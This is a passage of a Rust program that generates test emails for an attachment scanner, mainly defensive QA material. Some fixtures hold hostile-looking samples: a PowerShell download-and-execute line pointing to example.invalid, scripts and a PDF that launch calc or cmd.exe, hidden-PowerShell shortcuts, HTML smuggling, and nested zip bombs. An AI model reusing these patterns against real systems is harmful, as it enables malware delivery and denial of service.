//! Writes the golden corpus: `scanner/tests/fixtures/eml/<class>/<NNN-name>.eml`
//! and beside each its `.expect.toml` (action and categories).
//!
//! Run `cargo run -p ecluse-scanner --example make_fixtures` after changing a
//! sample; the golden test (`tests/golden.rs`) checks every file. A bug
//! becomes a fixture named after its issue.

mod samples;

use base64::Engine as _;
use samples::*;
use std::path::Path;

struct Fixture {
    class: &'static str,
    name: &'static str,
    eml: Vec<u8>,
    action: &'static str,
    categories: &'static [&'static str],
}

fn fx(
    class: &'static str,
    name: &'static str,
    eml: impl Into<Vec<u8>>,
    action: &'static str,
    categories: &'static [&'static str],
) -> Fixture {
    Fixture {
        class,
        name,
        eml: eml.into(),
        action,
        categories,
    }
}

const TEXT: &str = "Bonjour,\r\n\r\nVoici le compte rendu de la réunion de jeudi.\r\n\r\nCordialement,\r\nLe secrétariat de mairie";

fn clean() -> Vec<Fixture> {
    let d = "deliver";
    let none: &[&str] = &[];
    let html = "<html><body><p>Bonjour,</p><p>Le <a href=\"https://www.ville-exemple.fr/conseil\">compte rendu</a> est en ligne.</p></body></html>";
    let forwarded = with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("", &[]));
    vec![
        fx("clean", "001-plain-text", message("Réunion", &text_part(TEXT)), d, none),
        fx("clean", "002-alternative", message("Conseil", &multipart("alternative", "alt1", &[text_part(TEXT), format!("Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n")])), d, none),
        fx("clean", "003-related-inline-image", message("Affiche", &multipart("related", "rel1", &["Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><img src=\"cid:logo\"></body></html>\r\n".to_string(), format!("Content-Type: image/png\r\nContent-ID: <logo>\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", b64(&png()))])), d, none),
        fx("clean", "004-pdf-invoice", with_attachment("Facture F2026-118", "application/pdf", "facture-F2026-118.pdf", &pdf("", &[])), d, none),
        fx("clean", "005-facturx-invoice", with_attachment("Facture Factur-X", "application/pdf", "facture-facturx.pdf", &pdf_with_embedded("factur-x.xml", FACTURX_XML)), d, none),
        fx("clean", "006-docx", with_attachment("Compte rendu", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "compte-rendu.docx", &docx("Compte rendu")), d, none),
        fx("clean", "007-xlsx", with_attachment("Budget", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "budget-2027.xlsx", &xlsx(false)), d, none),
        fx("clean", "008-zip-of-documents", with_attachment("Pièces du dossier", "application/zip", "dossier.zip", &zip(&[("devis.pdf", &pdf("", &[])), ("notes.txt", b"Notes de la commission")])), d, none),
        fx("clean", "009-tar-gz", with_attachment("Archives", "application/gzip", "archives.tar.gz", &gzip("archives.tar", &tar(&[("a.txt", b"premier fichier"), ("b.csv", b"nom;montant\r\nA;12\r\n")]))), d, none),
        fx("clean", "010-7z", with_attachment("Photos", "application/x-7z-compressed", "releve.7z", &sevenz(&[("releve.txt", b"Releve des compteurs")], None)), d, none),
        fx("clean", "011-forwarded-message", message("Fwd: Facture", &multipart("mixed", "fw1", &[text_part("Pour information."), format!("Content-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n{forwarded}")])), d, none),
        fx("clean", "012-rfc2047-accented-name", message("Délibération", &multipart("mixed", "b12", &[text_part(TEXT), format!("Content-Type: application/pdf; name=\"=?UTF-8?Q?D=C3=A9lib=C3=A9ration_n=C2=B012.pdf?=\"\r\nContent-Disposition: attachment; filename=\"=?UTF-8?Q?D=C3=A9lib=C3=A9ration_n=C2=B012.pdf?=\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", b64(&pdf("", &[])))])), d, none),
        fx("clean", "013-rfc2231-accented-name", message("Arrêté", &multipart("mixed", "b13", &[text_part(TEXT), format!("Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=UTF-8''arr%C3%AAt%C3%A9%20municipal.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", b64(&pdf("", &[])))])), d, none),
        fx("clean", "014-odt", with_attachment("Ordre du jour", "application/vnd.oasis.opendocument.text", "ordre-du-jour.odt", &odt(false)), d, none),
        fx("clean", "015-jpeg-photo", with_attachment("Photo", "image/jpeg", "photo-chantier.jpg", &jpeg()), d, none),
        fx("clean", "016-quoted-printable", message("Été", "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nLa f=C3=AAte de l'=C3=A9t=C3=A9 aura lieu samedi.\r\n"), d, none),
        fx("clean", "017-lf-line-ends", message("Unix", &text_part(TEXT)).replace("\r\n", "\n"), d, none),
        fx("clean", "018-calendar", message("Invitation", &multipart("mixed", "cal1", &[text_part("Invitation"), "Content-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\nBEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Conseil\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".to_string()])), d, none),
        fx("clean", "019-uuencoded-text", message("Ancien logiciel", &text_part(&format!("Voici le fichier :\r\n\r\n{}", uuencode("liste.txt", b"Liste des participants\r\n")))), d, none),
        fx("clean", "020-tnef-pdf", with_attachment("Outlook", "application/ms-tnef", "winmail.dat", &tnef(&[("convocation.pdf", &pdf("", &[]))])), d, none),
        fx("clean", "021-several-attachments", message("Dossier", &multipart("mixed", "b21", &[text_part(TEXT), attachment("application/pdf", "a.pdf", &pdf("", &[])), attachment("application/pdf", "b.pdf", &pdf("", &[])), attachment("text/csv", "liste.csv", b"nom;prenom\r\nDupont;Marie\r\n")])), d, none),
        fx("clean", "022-gzip-text", with_attachment("Journal", "application/gzip", "journal.txt.gz", &gzip("journal.txt", b"ligne 1\nligne 2\n")), d, none),
        fx("clean", "023-html-body", message("Lettre", &format!("Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n")), d, none),
        fx("clean", "024-svg-logo", with_attachment("Logo", "image/svg+xml", "logo.svg", br#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="blue"/></svg>"#), d, none),
        fx("clean", "025-doc-without-macros", with_attachment("Ancien format", "application/msword", "courrier.doc", &ole_doc_clean()), d, none),
        fx("clean", "026-preamble-note", format!("{}Content-Type: multipart/mixed; boundary=\"p1\"\r\n\r\nThis is a multi-part message in MIME format.\r\n--p1\r\n{}\r\n--p1--\r\n", headers("Note"), text_part(TEXT)), d, none),
    ]
}

fn mime() -> Vec<Fixture> {
    let q = "quarantine";
    let amb: &[&str] = &["mime_ambiguity"];
    let pdfb = b64(&pdf("", &[]));
    let h = |s: &str| headers(s);
    vec![
        fx(
            "mime",
            "030-duplicate-content-type",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\nContent-Type: text/plain\r\n\r\n--a\r\n{}\r\n--a--\r\n",
                h("dup ct"),
                text_part(TEXT)
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "031-duplicate-boundary",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"; boundary=\"b\"\r\n\r\n--a\r\n{}\r\n--a--\r\n",
                h("dup boundary"),
                text_part(TEXT)
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "032-duplicate-cte",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\nContent-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{pdfb}\r\n--a--\r\n",
                h("dup cte")
            ),
            q,
            &["mime_ambiguity", "type_mismatch"],
        ),
        fx(
            "mime",
            "033-name-vs-filename",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf; name=\"facture.pdf\"\r\nContent-Disposition: attachment; filename=\"rapport.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}\r\n--a--\r\n",
                h("name vs filename")
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "034-rfc2231-conflict",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"facture.pdf\"; filename*=UTF-8''facture.html\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}\r\n--a--\r\n",
                h("2231 conflict")
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "035-missing-final-boundary",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\n{}\r\n--a\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}",
                h("no end"),
                text_part(TEXT)
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "036-preamble-hidden-part",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\nContent-Type: text/html\r\n\r\n<p>hidden</p>\r\n--a\r\n{}\r\n--a--\r\n",
                h("preamble"),
                text_part(TEXT)
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "037-epilogue-hidden-data",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\n{}\r\n--a--\r\n{}",
                h("epilogue"),
                text_part(TEXT),
                b64(&[0x5a; 600])
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "038-base64-garbage",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBER*i0xLjcK!!\r\n--a--\r\n",
                h("garbage")
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "039-bare-cr",
            format!(
                "{}Content-Type: text/plain\r\n\r\nligne 1\rligne 2\r\n",
                h("bare cr")
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "040-bare-lf-in-crlf",
            format!(
                "{}Content-Type: text/plain\r\n\r\nligne 1\nligne 2\r\n",
                h("bare lf")
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "041-nul-in-header",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf; name=\"a.pdf\0.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}\r\n--a--\r\n",
                h("nul")
            ),
            q,
            &["executable", "mime_ambiguity", "type_mismatch"],
        ),
        fx(
            "mime",
            "042-message-partial",
            format!(
                "{}Content-Type: message/partial; id=\"abc@x\"; number=1; total=2\r\n\r\nFrom: x@y\r\nSubject: part\r\n\r\nhalf a message\r\n",
                h("partial")
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "043-unknown-transfer-encoding",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\nContent-Transfer-Encoding: base64x\r\n\r\n{pdfb}\r\n--a--\r\n",
                h("cte")
            ),
            q,
            &["mime_ambiguity", "type_mismatch"],
        ),
        fx(
            "mime",
            "044-nested-boundary-prefix",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: multipart/alternative; boundary=\"a1\"\r\n\r\n--a1\r\n{}\r\n--a1--\r\n\r\n--a--\r\n",
                h("prefix"),
                text_part(TEXT)
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "045-multipart-without-boundary",
            format!(
                "{}Content-Type: multipart/mixed\r\n\r\n--x\r\n{}\r\n--x--\r\n",
                h("no boundary"),
                text_part(TEXT)
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "046-duplicate-filename",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"facture.pdf\"; filename=\"facture.pdf.html\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}\r\n--a--\r\n",
                h("dup filename")
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "047-rfc2231-gap",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename*0=\"fact\"; filename*2=\"ure.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}\r\n--a--\r\n",
                h("2231 gap")
            ),
            q,
            amb,
        ),
        fx(
            "mime",
            "048-base64-after-padding",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/octet-stream; name=\"data.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\nQUJD\r\nRA==TVqQAAMAAAAEAAAA\r\n--a--\r\n",
                h("after padding")
            ),
            q,
            amb,
        ),
    ]
}

fn risky() -> Vec<Fixture> {
    let q = "quarantine";
    vec![
        fx("sniff", "050-exe", with_attachment("Mise à jour", "application/octet-stream", "miseajour.exe", &pe()), q, &["executable"]),
        fx("sniff", "051-exe-named-pdf", with_attachment("Facture", "application/pdf", "facture.pdf", &pe()), q, &["executable", "type_mismatch"]),
        fx("sniff", "052-elf", with_attachment("Outil", "application/octet-stream", "outil.bin", &elf()), q, &["executable"]),
        fx("sniff", "053-msi", with_attachment("Installeur", "application/x-msi", "installeur.msi", &msi()), q, &["executable"]),
        fx("sniff", "054-js", with_attachment("Facture", "application/javascript", "facture.js", b"var d = new Date(); var total = 12 + 30;"), q, &["script"]),
        fx("sniff", "055-vbs-runner", with_attachment("Scan", "text/plain", "scan.vbs", b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\"\r\n"), q, &["script"]),
        fx("sniff", "056-hta", with_attachment("Document", "application/hta", "document.hta", b"<html><head><HTA:APPLICATION ID=\"x\"></head><body>x</body></html>"), q, &["script"]),
        fx("sniff", "057-ps1", with_attachment("Outil", "text/plain", "outil.ps1", b"Write-Host 'bonjour'"), q, &["script"]),
        fx("sniff", "058-bat", with_attachment("Installer", "text/plain", "installer.bat", b"@echo off\r\necho bonjour\r\n"), q, &["script"]),
        fx("sniff", "059-lnk-powershell", with_attachment("Document", "application/octet-stream", "document.lnk", &lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden")), q, &["shortcut"]),
        fx("sniff", "060-iso", with_attachment("Commande", "application/octet-stream", "commande.iso", &iso()), q, &["disk_image"]),
        fx("sniff", "061-vhdx", with_attachment("Sauvegarde", "application/octet-stream", "sauvegarde.vhdx", &vhdx()), q, &["disk_image"]),
        fx("sniff", "062-onenote", with_attachment("Notes", "application/onenote", "notes.one", &onenote()), q, &["onenote"]),
        fx("sniff", "063-doc-with-vba", with_attachment("Courrier", "application/msword", "courrier.doc", &ole_doc_with_macros()), q, &["macro"]),
        fx("sniff", "064-docm", with_attachment("Formulaire", "application/vnd.ms-word.document.macroEnabled.12", "formulaire.docm", &docm("Formulaire")), q, &["macro"]),
        fx("sniff", "065-docm-renamed-docx", with_attachment("Facture", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "facture.docx", &docm("Facture")), q, &["macro", "type_mismatch"]),
        fx("sniff", "066-xlsm", with_attachment("Budget", "application/vnd.ms-excel.sheet.macroEnabled.12", "budget.xlsm", &xlsx(true)), q, &["macro"]),
        fx("sniff", "067-odt-basic-macro", with_attachment("Ordre du jour", "application/vnd.oasis.opendocument.text", "ordre.odt", &odt(true)), q, &["macro"]),
        fx("sniff", "068-html-smuggling", with_attachment("Document partagé", "text/html", "document.html", format!("<html><body><script>var d = atob('{}'); var b = new Blob([d], {{type: 'application/zip'}}); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'facture.zip'; a.click();</script></body></html>", base64_plain(b"PK\x03\x04 fake zip")).as_bytes()), q, &["html_smuggling", "unscannable_archive"]),
        fx("sniff", "069-svg-script", with_attachment("Plan", "image/svg+xml", "plan.svg", br#"<svg xmlns="http://www.w3.org/2000/svg"><script>location.href='https://example.invalid/'</script></svg>"#), q, &["active_content"]),
        fx("sniff", "070-pdf-openaction-js", with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("/OpenAction 5 0 R", &["5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n".into()])), q, &["active_content"]),
        fx("sniff", "071-pdf-obfuscated-js", with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("/OpenAction 5 0 R", &["5 0 obj\n<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>\nendobj\n".into()])), q, &["active_content"]),
        fx("sniff", "072-pdf-launch", with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("/OpenAction 5 0 R", &["5 0 obj\n<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>\nendobj\n".into()])), q, &["active_content"]),
        fx("sniff", "073-chm", with_attachment("Aide", "application/octet-stream", "aide.chm", &chm()), q, &["executable"]),
        fx("sniff", "074-jar", with_attachment("Application", "application/java-archive", "application.jar", &jar()), q, &["executable"]),
        fx("sniff", "075-double-extension", with_attachment("Facture", "application/octet-stream", "facture.pdf.exe", &pe()), q, &["executable", "double_extension"]),
        fx("sniff", "076-bidi-name", with_attachment("Facture", "application/octet-stream", "facture\u{202e}fdp.exe", &pe()), q, &["executable", "bidi_name"]),
        fx("sniff", "077-powershell-in-txt", with_attachment("Notes", "text/plain", "notes.txt", b"$c = New-Object Net.WebClient; IEX $c.DownloadString('http://example.invalid/a')"), q, &["script"]),
        fx("sniff", "078-zip-named-pdf", with_attachment("Facture", "application/pdf", "facture.pdf", &zip(&[("facture.txt", b"texte")])), q, &["type_mismatch"]),
        fx("sniff", "079-reg", with_attachment("Réglages", "text/plain", "reglages.reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n"), q, &["script"]),
        fx("sniff", "080-padded-double-extension", with_attachment("Photo", "application/octet-stream", "photo.jpg        .scr", &pe()), q, &["executable", "double_extension"]),
    ]
}

fn base64_plain(data: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(data)
}

fn archives() -> Vec<Fixture> {
    let q = "quarantine";
    let inner_docm = docm("Facture");
    vec![
        fx(
            "archive",
            "085-encrypted-zip",
            with_attachment(
                "Confidentiel",
                "application/zip",
                "confidentiel.zip",
                &zip_flagged_encrypted(&[("facture.pdf", &pdf("", &[]))]),
            ),
            q,
            &["encrypted_archive"],
        ),
        fx(
            "archive",
            "086-rar",
            with_attachment("Archive", "application/vnd.rar", "archive.rar", &rar()),
            q,
            &["unscannable_archive"],
        ),
        fx(
            "archive",
            "087-encrypted-7z",
            with_attachment(
                "Confidentiel",
                "application/x-7z-compressed",
                "confidentiel.7z",
                &sevenz(&[("facture.pdf", &pdf("", &[]))], Some("infected")),
            ),
            q,
            &["encrypted_archive"],
        ),
        fx(
            "archive",
            "088-zip-with-js",
            with_attachment(
                "Facture",
                "application/zip",
                "facture.zip",
                &zip(&[("facture.js", b"var x = 1;")]),
            ),
            q,
            &["script"],
        ),
        fx(
            "archive",
            "089-tgz-with-exe",
            with_attachment(
                "Outils",
                "application/gzip",
                "outils.tgz",
                &gzip("outils.tar", &tar(&[("bin/outil.exe", &pe())])),
            ),
            q,
            &["executable"],
        ),
        fx(
            "archive",
            "090-zip-in-zip-docm",
            with_attachment(
                "Dossier",
                "application/zip",
                "dossier.zip",
                &zip(&[(
                    "sous-dossier.zip",
                    &zip(&[("formulaire.docm", &inner_docm)]),
                )]),
            ),
            q,
            &["macro"],
        ),
        fx(
            "archive",
            "091-tnef-with-exe",
            with_attachment(
                "Outlook",
                "application/ms-tnef",
                "winmail.dat",
                &tnef(&[("setup.exe", &pe())]),
            ),
            q,
            &["executable"],
        ),
        fx(
            "archive",
            "092-damaged-zip",
            with_attachment("Dossier", "application/zip", "dossier.zip", &{
                let mut z = zip(&[("a.txt", b"bonjour tout le monde")]);
                let cut = z.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
                z.truncate(cut);
                z
            }),
            q,
            &["unscannable_archive"],
        ),
        fx(
            "archive",
            "093-pdf-embedded-exe",
            with_attachment(
                "Facture",
                "application/pdf",
                "facture.pdf",
                &pdf_with_embedded("payload.exe", &pe()),
            ),
            q,
            &["executable"],
        ),
        fx(
            "archive",
            "094-uuencoded-exe",
            message(
                "Fichier",
                &text_part(&format!(
                    "Le programme :\r\n\r\n{}",
                    uuencode("programme.exe", &pe())
                )),
            ),
            q,
            &["executable"],
        ),
        fx(
            "archive",
            "095-cab",
            with_attachment(
                "Pilote",
                "application/vnd.ms-cab-compressed",
                "pilote.cab",
                &cab(),
            ),
            q,
            &["unscannable_archive"],
        ),
        fx(
            "archive",
            "096-iso-in-zip",
            with_attachment(
                "Commande",
                "application/zip",
                "commande.zip",
                &zip(&[("commande.iso", &iso())]),
            ),
            q,
            &["disk_image"],
        ),
        fx(
            "archive",
            "097-lnk-in-zip",
            with_attachment(
                "Scan",
                "application/zip",
                "scan.zip",
                &zip(&[("scan.pdf.lnk", &lnk("cmd.exe /c start calc"))]),
            ),
            q,
            &["shortcut", "double_extension"],
        ),
    ]
}

fn malware() -> Vec<Fixture> {
    let r = "reject";
    let e = eicar();
    let eicar_msg = with_attachment("EICAR", "text/plain", "eicar.txt", &e);
    vec![
        fx("malware", "100-eicar", eicar_msg.clone(), r, &["malware"]),
        fx(
            "malware",
            "101-eicar-zip-in-zip",
            with_attachment(
                "Dossier",
                "application/zip",
                "dossier.zip",
                &zip(&[("inner.zip", &zip(&[("eicar.txt", &e)]))]),
            ),
            r,
            &["malware"],
        ),
        fx(
            "malware",
            "102-eicar-in-forwarded-message",
            message(
                "Fwd: EICAR",
                &multipart(
                    "mixed",
                    "fw2",
                    &[
                        text_part("Transféré"),
                        format!("Content-Type: message/rfc822\r\n\r\n{eicar_msg}"),
                    ],
                ),
            ),
            r,
            &["malware"],
        ),
        fx(
            "malware",
            "103-eicar-in-7z",
            with_attachment(
                "Archive",
                "application/x-7z-compressed",
                "archive.7z",
                &sevenz(&[("eicar.txt", &e)], None),
            ),
            r,
            &["malware"],
        ),
        fx(
            "malware",
            "104-eicar-in-gzip",
            with_attachment(
                "Archive",
                "application/gzip",
                "eicar.txt.gz",
                &gzip("eicar.txt", &e),
            ),
            r,
            &["malware"],
        ),
        fx(
            "malware",
            "105-eicar-uuencoded",
            message(
                "uu",
                &text_part(&format!("Fichier :\r\n{}", uuencode("eicar.txt", &e))),
            ),
            r,
            &["malware"],
        ),
        fx(
            "malware",
            "106-eicar-in-tnef",
            with_attachment(
                "Outlook",
                "application/ms-tnef",
                "winmail.dat",
                &tnef(&[("eicar.txt", &e)]),
            ),
            r,
            &["malware"],
        ),
        fx(
            "malware",
            "107-eicar-in-epilogue",
            format!(
                "{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\n{}\r\n--a--\r\nContent-Type: text/plain\r\n\r\n{}\r\n",
                headers("epilogue"),
                text_part(TEXT),
                String::from_utf8(e.clone()).unwrap()
            ),
            r,
            &["malware", "mime_ambiguity"],
        ),
        fx(
            "malware",
            "108-eicar-in-pdf-embedded",
            with_attachment(
                "Facture",
                "application/pdf",
                "facture.pdf",
                &pdf_with_embedded("eicar.txt", &e),
            ),
            r,
            &["malware"],
        ),
        fx(
            "malware",
            "109-eicar-base64-nested-deep",
            {
                // Encoded nested messages five levels deep: deeper than mail-parser's own limit.
                let mut m = eicar_msg.clone();
                for i in 0..5 {
                    m = message(
                        &format!("Fwd {i}"),
                        &multipart(
                            "mixed",
                            &format!("deep{i}"),
                            &[
                                text_part("Transféré"),
                                format!(
                                    "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
                                    b64(m.as_bytes())
                                ),
                            ],
                        ),
                    );
                }
                m
            },
            r,
            &["malware"],
        ),
    ]
}

fn budget() -> Vec<Fixture> {
    let q = "quarantine";
    let zeros = vec![0u8; 20 << 20];
    let mut nested = zip(&[("fond.txt", b"le fond")]);
    for i in 0..8 {
        let name = format!("niveau{i}.zip");
        nested = zip(&[(&name, &nested)]);
    }
    // A 42.zip in miniature: every level holds 16 copies of the level below.
    let leaf = zip(&[("zeros.bin", &vec![0u8; 4 << 20])]);
    let mut level = leaf;
    for _ in 0..3 {
        level = sixteen_copies(&level);
    }
    vec![
        fx(
            "budget",
            "110-zip-bomb-ratio",
            with_attachment(
                "Archive",
                "application/zip",
                "archive.zip",
                &zip(&[("zeros.bin", &zeros)]),
            ),
            q,
            &["budget_exceeded"],
        ),
        fx(
            "budget",
            "111-nested-too-deep",
            with_attachment("Archive", "application/zip", "poupees.zip", &nested),
            q,
            &["budget_exceeded"],
        ),
        fx(
            "budget",
            "112-recursive-bomb",
            with_attachment("Archive", "application/zip", "42.zip", &level),
            q,
            &["budget_exceeded"],
        ),
    ]
}

/// DER: a tag, a definite length, the content.
fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let len = content.len();
    if len < 128 {
        out.push(len as u8);
    } else {
        let bytes: Vec<u8> = len
            .to_be_bytes()
            .into_iter()
            .skip_while(|&b| b == 0)
            .collect();
        out.push(0x80 | bytes.len() as u8);
        out.extend_from_slice(&bytes);
    }
    out.extend_from_slice(content);
    out
}

/// An opaque-signed CMS `ContentInfo` (RFC 5652 §5) carrying `content`,
/// with no signer: enough for a reader to unwrap, as clients do whether
/// the signature verifies or not.
fn cms_signed(content: &[u8]) -> Vec<u8> {
    let oid_signed = [
        0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02,
    ];
    let oid_data = [
        0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x01,
    ];
    let econtent = der(0xa0, &der(0x04, content));
    let encap = der(0x30, &[&oid_data[..], &econtent].concat());
    let signed = der(
        0x30,
        &[
            &der(0x02, &[1])[..],
            &der(0x31, &[]),
            &encap,
            &der(0x31, &[]),
        ]
        .concat(),
    );
    der(0x30, &[&oid_signed[..], &der(0xa0, &signed)].concat())
}

/// An S/MIME enveloped-data structure (its recipients and ciphertext are
/// stand-ins: only its type is read).
fn cms_enveloped() -> Vec<u8> {
    let oid_enveloped = [
        0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x03,
    ];
    der(
        0x30,
        &[&oid_enveloped[..], &der(0xa0, &der(0x30, &der(0x02, &[0])))].concat(),
    )
}

/// An Outlook message with one attachment.
fn msg(subject: &str, attachment_name: &str, data: &[u8]) -> Vec<u8> {
    let utf16 = |s: &str| -> Vec<u8> { s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect() };
    ole(
        None,
        &[
            ("/__properties_version1.0", &[0u8; 32]),
            ("/__substg1.0_0037001F", &utf16(subject)),
            (
                "/__substg1.0_1000001F",
                &utf16("Bonjour, voici le document transféré."),
            ),
            (
                "/__attach_version1.0_#00000000/__properties_version1.0",
                &[0u8; 8],
            ),
            (
                "/__attach_version1.0_#00000000/__substg1.0_3707001F",
                &utf16(attachment_name),
            ),
            ("/__attach_version1.0_#00000000/__substg1.0_37010102", data),
        ],
    )
}

/// `Package` native data wrapping a file ([MS-OLEDS], as Packager writes it).
fn package(label: &str, data: &[u8]) -> Vec<u8> {
    let mut v = vec![2, 0];
    v.extend_from_slice(label.as_bytes());
    v.push(0);
    v.extend_from_slice(format!("C:\\Users\\x\\{label}").as_bytes());
    v.push(0);
    v.extend_from_slice(&[0, 0, 3, 0]);
    let temp = format!("C:\\Temp\\{label}");
    v.extend_from_slice(&(temp.len() as u32 + 1).to_le_bytes());
    v.extend_from_slice(temp.as_bytes());
    v.push(0);
    v.extend_from_slice(&(data.len() as u32).to_le_bytes());
    v.extend_from_slice(data);
    v
}

/// An OLE1 embedded object ([MS-OLEDS] §2.2.4) of `class` around `native`.
fn ole1(class: &str, native: &[u8]) -> Vec<u8> {
    let prefixed = |s: &str| {
        let mut v = (s.len() as u32 + 1).to_le_bytes().to_vec();
        v.extend_from_slice(s.as_bytes());
        v.push(0);
        v
    };
    let mut v = 0x0501u32.to_le_bytes().to_vec();
    v.extend_from_slice(&2u32.to_le_bytes());
    v.extend(prefixed(class));
    v.extend(prefixed(""));
    v.extend(prefixed(""));
    v.extend_from_slice(&(native.len() as u32).to_le_bytes());
    v.extend_from_slice(native);
    v
}

/// An RTF letter with one object whose `\objdata` is `object`, in hex
/// broken by white space as Word writes it.
fn rtf_with_object(object: &[u8]) -> Vec<u8> {
    let hex: String = object.iter().map(|b| format!("{b:02x}")).collect();
    let lines: Vec<&str> = hex
        .as_bytes()
        .chunks(64)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    format!(
        "{{\\rtf1\\ansi Madame, Monsieur,\\par {{\\object\\objemb{{\\*\\objclass Package}}{{\\*\\objdata \r\n{}}}}}\\par Cordialement.}}",
        lines.join("\r\n")
    )
    .into_bytes()
}

/// The containers a recipient's software opens (issue 13): a hostile and a
/// benign twin for each.
fn containers() -> Vec<Fixture> {
    let c = "container";
    let q = "quarantine";
    let script = b"var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc\");".as_slice();
    let inner_script = with_attachment("Facture", "application/octet-stream", "facture.js", script);
    let inner_pdf = with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("", &[]));
    let signed_entity = |body: &str| {
        body.split_once("MIME-Version: 1.0\r\n")
            .map(|(_, b)| b.to_string())
            .unwrap()
    };
    let docx_with_embedding = |name: &str, data: &[u8]| {
        let base = docx("Rapport");
        let mut entries: Vec<(String, Vec<u8>)> = Vec::new();
        let mut z = zip::ZipArchive::new(std::io::Cursor::new(base)).unwrap();
        for i in 0..z.len() {
            let mut f = z.by_index(i).unwrap();
            let mut b = Vec::new();
